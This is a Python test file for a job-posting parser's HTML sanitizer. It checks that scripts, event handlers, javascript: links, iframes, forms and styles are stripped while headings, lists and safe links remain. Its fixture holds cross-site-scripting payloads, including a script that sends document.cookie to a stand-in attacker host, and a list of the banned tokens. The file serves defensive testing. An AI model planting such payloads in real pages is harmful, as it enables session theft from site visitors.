"""The description sanitizer: clipped HTML keeps its structure and loses everything that can run."""
from __future__ import annotations

import json

from jobloop.parsing import parse
from jobloop.parsing.description import html_to_text, sanitize_html

HOSTILE = (
    '<h2 onclick="steal()">About the role</h2>'
    '<p style="background:url(https://evil.example/x)">Build <strong>APIs</strong> '
    '<a href="javascript:alert(1)">here</a> and <a href="https://acme.example/team">meet us</a>.</p>'
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    '<img src="x" onerror="alert(2)"><iframe src="https://evil.example"></iframe>'
    '<form action="https://evil.example"><input name="q"></form>'
    '<svg onload="alert(3)"><circle r="1"/></svg><style>body{display:none}</style>'
    '<ul><li>Python</li><li>SQL</li></ul>'
)


def test_sanitizer_drops_what_can_run_and_keeps_structure():
    clean = sanitize_html(HOSTILE)
    lowered = clean.lower()
    for bad in ("<script", "fetch(", "onclick", "onerror", "onload", "javascript:", "<iframe", "<form",
                "<input", "<svg", "<style", "style=", "<img", "evil.example"):
        assert bad not in lowered, bad
    assert "<h2>About the role</h2>" in clean
    assert "<strong>APIs</strong>" in clean
    assert "<li>Python</li>" in clean
    assert 'href="https://acme.example/team"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_text_of_a_sanitized_description_has_no_markup():
    text = html_to_text(sanitize_html(HOSTILE))
    assert "About the role" in text and "Python" in text
    assert "<" not in text and "document.cookie" not in text


def test_parsed_posting_description_is_sanitized():
    ld = {"@context": "https://schema.org", "@type": "JobPosting", "title": "API Engineer",
          "hiringOrganization": {"@type": "Organization", "name": "Acme"}, "datePosted": "2026-11-02",
          "employmentType": "FULL_TIME", "description": "<h3>Responsibilities</h3>" + HOSTILE + "<h3>Requirements</h3><p>3 years of Python.</p>",
          "jobLocation": {"@type": "Place", "address": {"@type": "PostalAddress", "addressLocality": "Lisbon"}}}
    ld_json = json.dumps(ld).replace("</", "<\\/")  # as sites do, so </script> inside stays data
    page = f'<html><head><script type="application/ld+json">{ld_json}</script></head><body><h1>API Engineer</h1></body></html>'
    draft = parse(page, "https://jobs.example.test/acme/1")
    assert "Build" in draft.description_html
    for bad in ("<script", "onerror", "javascript:", "<iframe"):
        assert bad not in draft.description_html.lower(), bad
